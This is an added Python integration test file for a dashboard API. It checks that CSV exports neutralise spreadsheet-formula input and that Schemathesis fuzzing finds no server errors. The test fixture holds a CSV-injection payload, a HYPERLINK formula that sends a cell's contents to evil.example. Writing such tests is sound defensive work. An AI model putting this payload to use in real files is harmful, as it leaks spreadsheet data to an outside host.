@@ -1,0 +1,56 @@
+"""The dashboard's JSON API and CSV exports against hostile input, on a real dashboard
+(uvicorn, Kafka, PostgreSQL): partner text that a spreadsheet would run as a formula is
+neutralised in every CSV, and Schemathesis finds no 5xx and no response that breaks the
+OpenAPI document across ``/api/v1`` (signed in as the secretariat, with its CSRF token)."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+
+import pytest
+from test_schemathesis import fuzz
+
+from dashboard_harness import dashboard_settings, make_event, running_dashboard
+
+pytestmark = pytest.mark.integration
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+
+
+async def test_csv_cells_that_start_a_formula_are_neutralised(
+    database_url: str, kafka_bootstrap: str
+) -> None:
+    settings = dashboard_settings(database_url, kafka_bootstrap)
+    mission = make_event(
+        "nl.teamnl.nlib.mission.held.v1", mission_id="m-evil", title=FORMULA, city="@SUM(1+1)"
+    )
+    async with running_dashboard(settings) as dash:
+        await dash.publish(mission)
+        await dash.wait_applied(1)
+        response = await dash.member.get("/api/v1/initiatives/nlib/missions.csv")
+        as_json = await dash.get("/api/v1/initiatives/nlib")
+    assert response.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["title"] == "'" + FORMULA
+    assert row["city"] == "'@SUM(1+1)"
+    assert row["leads"] == str(mission.data.leads)  # numbers stay numbers
+    assert as_json["missions"][0]["title"] == FORMULA  # the JSON keeps the text as sent
+
+
+@pytest.mark.timeout(600)
+async def test_schemathesis_finds_no_server_error_in_the_dashboard_api(
+    database_url: str, kafka_bootstrap: str
+) -> None:
+    settings = dashboard_settings(database_url, kafka_bootstrap)
+    async with running_dashboard(settings) as dash:
+        secretariat = dash.secretariat
+        headers = {
+            "cookie": f"teamnl_session={secretariat.cookies['teamnl_session']}",
+            "x-csrf-token": secretariat.headers["x-csrf-token"],
+        }
+        # /stream is Server-Sent Events: it answers 200 and never ends, nothing to fuzz.
+        failures = await asyncio.to_thread(
+            fuzz, dash.base_url, headers, path_regex=r"^/api/v1/(?!stream$)"
+        )
+    assert not failures, "\n\n".join(failures)
